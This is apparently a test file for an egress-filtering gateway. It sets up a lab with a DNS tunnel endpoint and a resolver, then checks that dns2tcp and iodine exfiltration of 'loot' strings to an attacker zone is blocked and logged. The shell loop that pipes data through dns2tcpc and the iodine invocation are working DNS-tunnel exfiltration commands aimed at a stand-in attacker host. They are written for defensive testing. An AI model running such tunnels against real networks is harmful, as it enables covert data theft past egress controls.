import { once } from 'node:events'
import { existsSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { openLab, type Lab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { type Mode, perform, type raid, whatWasSeen } from './bypass.ts'
import type { Deed } from './bypass-deed.ts'
import { outside } from './bypass-words.ts'

t.setTimeout(120_000)
const skip = whyNoLab()
const tunnels = ['/usr/bin/dns2tcpc', '/usr/bin/dns2tcpd', '/usr/sbin/iodine', '/usr/sbin/dnsmasq', '/usr/bin/timeout']
const missing = tunnels.filter(file => !existsSync(file))
const whyNoTunnel = skip !== false ? skip : missing.length > 0 && `needs ${missing.join(', ')}`
if (typeof whyNoTunnel === 'string' && process.env['TIDEGATE_REQUIRE_ALL'] === '1') throw new Error(whyNoTunnel)

const recursive = '198.51.100.54'
const zone = 't.case.test'

/** A resolver that asks the attacker for the attacker's zone, as every resolver of the world would; and the tunnel's end there. */
async function openTunnel(lab: Lab): Promise<AsyncDisposable> {
  await lab.internet.exec('ip', ['address', 'add', `${recursive}/32`, 'dev', 'lo'])
  await lab.outside.exec('nft', [
    'insert',
    'rule',
    'inet',
    'sink',
    'everything',
    'ip',
    'daddr',
    '203.0.113.66',
    'udp',
    'dport',
    '53',
    'accept',
  ])
  const config = `listen = 203.0.113.66\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = ${zone}\nresources = sink:203.0.113.66:1024\n`
  writeFileSync(lab.file('dns2tcpd.conf'), config)
  const end = lab.outside.spawn('dns2tcpd', ['-F', '-f', lab.file('dns2tcpd.conf')], { stdio: 'ignore' })
  const options = [
    '--keep-in-foreground',
    '--conf-file=/dev/null',
    '--no-resolv',
    '--no-hosts',
    '--bind-interfaces',
    '--cache-size=0',
    '--user=root',
    '--pid-file=',
  ]
  const servers = [`--listen-address=${recursive}`, `--server=/${zone}/203.0.113.66`, '--server=198.51.100.53']
  const resolver = lab.internet.spawn('dnsmasq', [...options, ...servers], { stdio: 'ignore' })
  writeFileSync(`/etc/netns/${lab.host.name}/resolv.conf`, `nameserver ${recursive}\n`)
  return {
    async [Symbol.asyncDispose]() {
      for (const child of [end, resolver]) {
        const ended = once(child, 'exit')
        child.kill('SIGKILL')
        await ended
      }
    },
  }
}

/** Waits for the two servers: asks until the tunnel's end sends back what it was sent. */
const upload = (loot: string, resolver: string): readonly string[] => [
  '-c',
  `for i in 1 2 3 4 5 6 7 8 9; do said=$( (echo ${loot}; sleep 1) | timeout 4 dns2tcpc -z ${zone} -r sink -l - ${resolver} 2>&1); case "$said" in *${loot}*) break ;; esac; sleep 0.5; done; echo "$said"`,
]

t.test('D4, D5: tunnels that exist', { skip: whyNoTunnel }, async t => {
  await using lab = await openLab({})
  await using _tunnel = await openTunnel(lab)
  const direct = await lab.host.exec('sh', [...upload('lootdirect', recursive)])
  t.match(direct.stdout, /lootdirect/, 'without the gateway the tunnel works')
  t.equal(await lab.sink.contains('lootdirect'), true)
  await lab.sink.clear()

  for (const mode of ['block', 'audit'] as const) {
    for (const rule of [[], [`"https://**.${zone}"`]]) await tunnel(t, lab, mode, rule)
  }
})

async function tunnel(t: Tap, lab: Lab, mode: Mode, allowed: readonly string[]): Promise<void> {
  const loot = `loot${mode}${allowed.length}`
  const one = upload(loot, outside).map(text => text.replace('1 2 3 4 5 6 7 8 9', '1'))
  const deeds: readonly Deed[] = [
    { do: 'program', file: 'sh', args: one },
    { do: 'program', file: 'iodine', args: ['-f', '-r', '-P', loot, outside, zone] },
  ]
  const { outcome, told } = await perform(lab, { mode, allow: allowed }, deeds)
  const where = `${mode}, ${allowed.length === 0 ? 'without a rule' : 'under an allowed wildcard'}`
  t.notMatch(told[0], new RegExp(loot), `dns2tcp gets no echo (${where})`)
  t.match(told[1], /\[exit 1\]/, `iodine does not start (${where})`)
  const seen = await whatWasSeen(lab)
  t.equal(seen(loot), false, `the attacker hears nothing of it (${where})`)
  t.ok(
    outcome.lines.some(
      ({ layer, host, verdict }) => layer === 'dns' && verdict === 'deny' && host?.endsWith(zone) === true,
    ),
    `the log says it (${where})`,
  )
  if (mode === 'block') t.strictSame(await lab.sink.lines(), [], `the attacker's server sees no query (${where})`)
}

type Tap = Parameters<typeof raid>[0]
